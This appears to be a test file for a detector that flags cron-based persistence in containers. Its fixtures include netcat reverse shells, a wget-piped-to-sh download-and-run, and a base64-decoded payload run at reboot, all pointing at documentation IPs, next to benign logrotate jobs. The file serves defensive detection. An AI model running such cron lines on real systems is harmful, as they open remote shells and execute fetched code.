import { describe, expect, it } from 'vitest';
import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
import { container, engine, sha } from './fixtures.js';

/** A container whose one cron file was written after start (`changed`), or ships with the image. */
function withCron(path: string, text: string, changed = true) {
  const file = { path, sha256: sha(text), size: text.length, text, imageSha256: changed ? undefined : sha(text) };
  return container(
    {},
    { fileContents: [file], files: changed ? [{ path, kind: 'added', flags: [], sha256: sha(text) }] : [] },
  );
}

const run = (c: ReturnType<typeof withCron>) =>
  runDetectors(engine([c]), { only: ['cron-persistence'] }).findings.map((f) => f.severity);

describe('cron-persistence', () => {
  it.each([
    ['a remote shell every minute', '/etc/cron.d/sync', '* * * * * root nc 203.0.113.4 4444 -e /bin/sh', 'critical'],
    ['a script from a scratch directory in /etc/crontab', '/etc/crontab', '*/5 * * * * root /tmp/.x/upd.sh', 'high'],
    [
      'busybox periodic download-and-run',
      '/etc/periodic/15min/update',
      '#!/bin/sh\nwget -qO- http://203.0.113.9/u | sh',
      'high',
    ],
    [
      'a user crontab decoding a payload',
      '/var/spool/cron/crontabs/root',
      '@reboot echo ZWNobyBoaQ== | base64 -d | sh',
      'high',
    ],
    ['an hourly script with a remote shell', '/etc/cron.hourly/check', 'nc -e /bin/sh 203.0.113.4 53', 'critical'],
  ])('%s', (_name, path, text, severity) => {
    expect(run(withCron(path, text))).toEqual([severity]);
  });

  it('lists a new harmless job at low and stays silent on the image’s own', () => {
    const rotate = '0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf';
    expect(run(withCron('/etc/cron.d/logrotate', rotate))).toEqual(['low']);
    expect(
      run(withCron('/etc/periodic/daily/logrotate', '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf')),
    ).toEqual(['low']);
    expect(run(withCron('/etc/cron.d/logrotate', rotate, false))).toEqual([]);
  });
});
